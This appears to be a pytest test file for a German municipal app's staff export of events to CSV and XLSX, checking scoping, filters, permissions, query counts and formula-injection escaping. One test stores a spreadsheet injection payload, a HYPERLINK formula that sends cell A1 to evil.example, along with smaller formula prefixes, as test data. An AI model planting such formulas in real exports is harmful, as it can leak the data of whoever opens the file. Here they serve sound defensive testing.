"""Staff export of events (CSV/XLSX): scope, filters, formula injection, query count."""

import csv
import io
from datetime import date, datetime

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from events.models import Event
from events.tests.factories import berlin, make_event
from municipalities.models import FieldOfAction, Language, TargetGroup
from municipalities.tests.factories import MunicipalityFactory

S = Event.Status
EXPORT_HEADER = [
    "id", "titel", "status", "kommune", "ags", "beginn", "ende", "wiederholung", "ort", "handlungsfelder",
    "zielgruppen", "sprachen", "veranstalter", "erwartete_teilnehmende", "tatsaechliche_teilnehmende",
    "eingereicht_am",
]  # fmt: skip
MARCH = {"start": "2026-03-01", "end": "2026-03-31"}


def export_url(fmt: str) -> str:
    return reverse("events:export", args=[fmt])


def read_csv(response) -> list[list[str]]:
    content = response.content
    assert content.startswith(b"\xef\xbb\xbf"), "German Excel needs the BOM to read UTF-8"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def read_xlsx(response):
    return openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]


@pytest.fixture
def soest_municipality(soest):
    """A municipality of another district (its KI staff: ``soest_staff``)."""
    return MunicipalityFactory(district=soest, name="Soest", slug="soest", ags="05974040")


@pytest.fixture
def staff_client(client, ki_staff):
    client.force_login(ki_staff)
    return client


def test_export_contains_every_status_of_the_own_district_only(
    staff_client, ki_staff, contact_unna, unna, luenen, soest_municipality, soest_staff
):
    draft = make_event(by=contact_unna, municipality=unna, title="Entwurf in Unna")
    submitted = make_event(by=ki_staff, municipality=luenen, title="Eingereicht in Lünen", status=S.SUBMITTED)
    approved = make_event(by=ki_staff, municipality=unna, title="Veröffentlicht", status=S.APPROVED)
    make_event(by=soest_staff, municipality=soest_municipality, title="Nur in Soest", status=S.APPROVED)
    make_event(by=ki_staff, municipality=unna, title="Im April", start=berlin(2026, 4, 20, 10))

    response = staff_client.get(export_url("csv"), MARCH)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="veranstaltungen-')
    rows = read_csv(response)
    assert rows[0] == EXPORT_HEADER
    assert {int(r[0]) for r in rows[1:]} == {draft.pk, submitted.pk, approved.pk}
    by_title = {r[1]: r for r in rows[1:]}
    assert by_title["Entwurf in Unna"][2] == "Entwurf"
    assert by_title["Eingereicht in Lünen"][3:5] == ["Lünen", "05978024"]


def test_status_and_calendar_filters_apply(staff_client, ki_staff, unna, luenen, reference, district):
    families = TargetGroup.objects.get(district=district, slug="familien")
    make_event(by=ki_staff, municipality=unna, title="Entwurf")
    make_event(
        by=ki_staff, municipality=unna, title="Für Familien", status=S.APPROVED, target_groups=[families]
    )
    make_event(by=ki_staff, municipality=luenen, title="Lünen", status=S.APPROVED)

    def titles(**params):
        response = staff_client.get(export_url("csv"), {**MARCH, **params})
        assert response.status_code == 200
        return sorted(r[1] for r in read_csv(response)[1:])

    assert titles(status="approved") == ["Für Familien", "Lünen"]
    assert titles(status=["draft", "approved"], municipality="unna") == ["Entwurf", "Für Familien"]
    assert titles(target_group="familien") == ["Für Familien"]
    assert titles(q="Familien") == ["Für Familien"]


@pytest.mark.parametrize(
    ("params", "parameter"),
    [
        ({"status": "veröffentlicht"}, "status"),
        ({"start": "14.03.2026"}, "start"),
        ({"start": "2026-03-01", "end": "2028-03-01"}, "end"),
        ({"municipality": "soest"}, "municipality"),
    ],
)
def test_bad_filter_is_a_400_with_german_text(staff_client, unna, soest_municipality, params, parameter):
    response = staff_client.get(export_url("xlsx"), params)
    assert response.status_code == 400
    text = response.content.decode()
    assert parameter in text
    assert "Ungültiger Filter" in text


def test_csv_neutralises_formula_injection(staff_client, ki_staff, unna):
    make_event(
        by=ki_staff,
        municipality=unna,
        title='=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
        organiser="+49 2303 1",
        location_name="@SUM(1+1)",
        street="-2+3",
    )
    rows = read_csv(staff_client.get(export_url("csv"), MARCH))
    exported = dict(zip(rows[0], rows[1], strict=True))
    assert exported["titel"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Klick")'
    assert exported["veranstalter"] == "'+49 2303 1"
    assert exported["ort"].startswith("'@SUM")
    assert exported["beginn"] == "14.03.2026 18:00"


def test_xlsx_has_formatted_header_real_datetimes_and_no_formulas(staff_client, ki_staff, unna, reference):
    event = make_event(
        by=ki_staff,
        municipality=unna,
        title="=1+2",
        description="egal",
        organiser="\tversteckt",
        start=berlin(2026, 3, 29, 18, 30),  # the day clocks go forward
        end=berlin(2026, 3, 29, 20),
        fields_of_action=FieldOfAction.objects.filter(slug="sprache-bildung"),
        languages=Language.objects.filter(code__in=["de", "ar"]),
        expected_participants=30,
    )
    Event.objects.filter(pk=event.pk).update(submitted_at=berlin(2026, 3, 1, 9, 15))

    response = staff_client.get(export_url("xlsx"), MARCH)

    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = read_xlsx(response)
    assert [cell.value for cell in sheet[1]] == EXPORT_HEADER
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["B"].width == 40
    cells = dict(zip(EXPORT_HEADER, sheet[2], strict=True))
    assert cells["titel"].value == "'=1+2"
    assert cells["titel"].data_type == "s"
    assert cells["veranstalter"].value == "'\tversteckt"
    assert cells["veranstalter"].data_type == "s"
    assert cells["beginn"].value == datetime(2026, 3, 29, 18, 30)  # Berlin wall-clock time, naive
    assert cells["beginn"].is_date
    assert cells["beginn"].number_format == "DD.MM.YYYY HH:MM"
    assert cells["eingereicht_am"].value == datetime(2026, 3, 1, 9, 15)
    assert cells["handlungsfelder"].value == "Sprache & Bildung"
    assert cells["sprachen"].value == "Deutsch; Arabisch"
    assert cells["erwartete_teilnehmende"].value == 30
    assert cells["tatsaechliche_teilnehmende"].value is None


def test_control_characters_do_not_break_the_xlsx(staff_client, ki_staff, unna):
    event = make_event(by=ki_staff, municipality=unna, title="Sprachcafé", organiser="Träger\x01")
    # Titles with control characters are refused since issue 12; rows stored before may still have them.
    Event.objects.filter(pk=event.pk).update(title="Sprachcafé\x07\x1b")
    response = staff_client.get(export_url("xlsx"), MARCH)
    assert response.status_code == 200
    row = next(read_xlsx(response).iter_rows(min_row=2, values_only=True))
    assert row[1] == "Sprachcafé"
    assert row[12] == "Träger"


def test_all_day_and_series_are_exported_once_with_their_rule(staff_client, ki_staff, unna):
    make_event(
        by=ki_staff,
        municipality=unna,
        title="Sprachcafé",
        frequency=Event.Frequency.WEEKLY,
        repeat_count=6,
    )
    make_event(
        by=ki_staff,
        municipality=unna,
        title="Kulturfest",
        start=berlin(2026, 3, 21),
        end=berlin(2026, 3, 22, 23, 59),
        all_day=True,
    )
    sheet = read_xlsx(staff_client.get(export_url("xlsx"), MARCH))
    rows = {row[1]: row for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert len(rows) == 2
    assert rows["Sprachcafé"][7].startswith("wöchentlich")
    assert rows["Kulturfest"][5:7] == (datetime(2026, 3, 21), datetime(2026, 3, 22))


def test_series_that_started_before_the_window_is_included(staff_client, ki_staff, unna):
    make_event(
        by=ki_staff,
        municipality=unna,
        title="Seit Februar",
        start=berlin(2026, 2, 2, 18),
        frequency=Event.Frequency.WEEKLY,
        repeat_until=date(2026, 6, 30),
    )
    rows = read_csv(staff_client.get(export_url("csv"), MARCH))
    assert [r[1] for r in rows[1:]] == ["Seit Februar"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_query_count_does_not_grow_with_the_rows(
    staff_client, ki_staff, unna, luenen, reference, district, fmt
):
    groups = list(TargetGroup.objects.filter(district=district)[:3])
    fields = list(FieldOfAction.objects.filter(district=district)[:2])
    languages = list(Language.objects.all()[:3])

    def add_events(count):
        for number in range(count):
            make_event(
                by=ki_staff,
                municipality=unna if number % 2 else luenen,
                title=f"Termin {number}",
                target_groups=groups,
                fields_of_action=fields,
                languages=languages,
            )

    def run():
        with CaptureQueriesContext(connection) as queries:
            response = staff_client.get(export_url(fmt), MARCH)
        assert response.status_code == 200
        return len(queries), response

    add_events(1)
    few, _response = run()
    add_events(15)
    many, response = run()
    exported = read_csv(response)[1:] if fmt == "csv" else list(read_xlsx(response).iter_rows(min_row=2))
    assert len(exported) == 16
    assert many == few


def test_export_query_count_is_pinned(
    staff_client, ki_staff, unna, reference, district, django_assert_max_num_queries
):
    groups = list(TargetGroup.objects.filter(district=district)[:3])
    for number in range(20):
        make_event(by=ki_staff, municipality=unna, title=f"Termin {number}", target_groups=groups)
    with django_assert_max_num_queries(12):
        response = staff_client.get(export_url("xlsx"), MARCH)
    assert read_xlsx(response).max_row == 21


# --- who may export ----------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_anonymous_is_sent_to_login(client, fmt):
    response = client.get(export_url(fmt))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("accounts:login"))


@pytest.mark.parametrize("role", ["contact_unna", "contact_luenen", "volunteer", "trainer"])
def test_everyone_but_ki_staff_gets_403(client, request, role):
    client.force_login(request.getfixturevalue(role))
    assert client.get(export_url("csv")).status_code == 403
    assert client.get(export_url("xlsx")).status_code == 403


def test_unknown_format_is_404(staff_client):
    assert staff_client.get(export_url("pdf")).status_code == 404
